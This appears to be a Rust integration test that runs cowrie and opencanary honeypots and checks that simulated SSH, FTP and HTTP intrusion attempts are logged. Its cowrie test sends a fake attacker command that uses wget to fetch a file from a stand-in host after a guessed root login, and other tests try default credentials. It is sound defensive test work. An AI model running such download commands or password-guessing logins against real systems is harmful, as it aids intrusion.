//! Honeypots of others, unmodified, in images made by the recipes in `docs/honeypots/`: uploaded,
//! assigned to a real sensor, attacked with real clients from elsewhere, and read back by the API. `scripts/upstream.sh`
//! prepares what the recipes build upon, and runs this.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    missing_docs,
    clippy::print_stdout,
    reason = "a test may fail"
)]

#[path = "support/client.rs"]
mod client;
#[path = "upstream/honeypot.rs"]
mod honeypot;
#[path = "support/programs.rs"]
mod programs;
#[path = "../../crates/containers/tests/support/surroundings.rs"]
mod surroundings;

use honeypot::Honeypot;

/// What the attacker's client says first; the version is the machine's.
const OPENSSH: &str = "banner SSH-2.0-OpenSSH";

#[tokio::test(flavor = "multi_thread")]
async fn cowrie() {
    let pot = Honeypot::start("cowrie", &[2270, 2271]).await;
    // What its own list of users refuses, and what it lets in.
    pot.ssh(2270, "root", "123456", "id");
    let refused = pot.event(0, "close").await;
    assert_eq!(
        refused,
        ["connect", OPENSSH, "login root/123456 refused", "close"],
    );
    let said = pot.ssh(
        2270,
        "root",
        "hunter2",
        "uname -a; wget http://192.0.2.80/x",
    );
    assert!(said.contains("svr04"), "{said}");
    let caught = pot.event(1, "close").await;
    assert_eq!(
        caught,
        [
            "connect",
            OPENSSH,
            "login root/hunter2 accepted",
            "command uname -a; wget http://192.0.2.80/x",
            "close",
        ]
    );
    pot.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn opencanary() {
    let pot = Honeypot::start("opencanary", &[2280, 2281, 2282]).await;
    pot.curl("ftp://admin:letmein@ADDRESS:2280/");
    pot.event(0, "login admin/letmein refused").await;
    pot.ssh(2281, "root", "hunter2", "id");
    pot.event(1, "login root/hunter2 refused").await;
    pot.curl("http://ADDRESS:2282/index.html");
    pot.event(2, "request GET /index.html").await;
    pot.end().await;
}
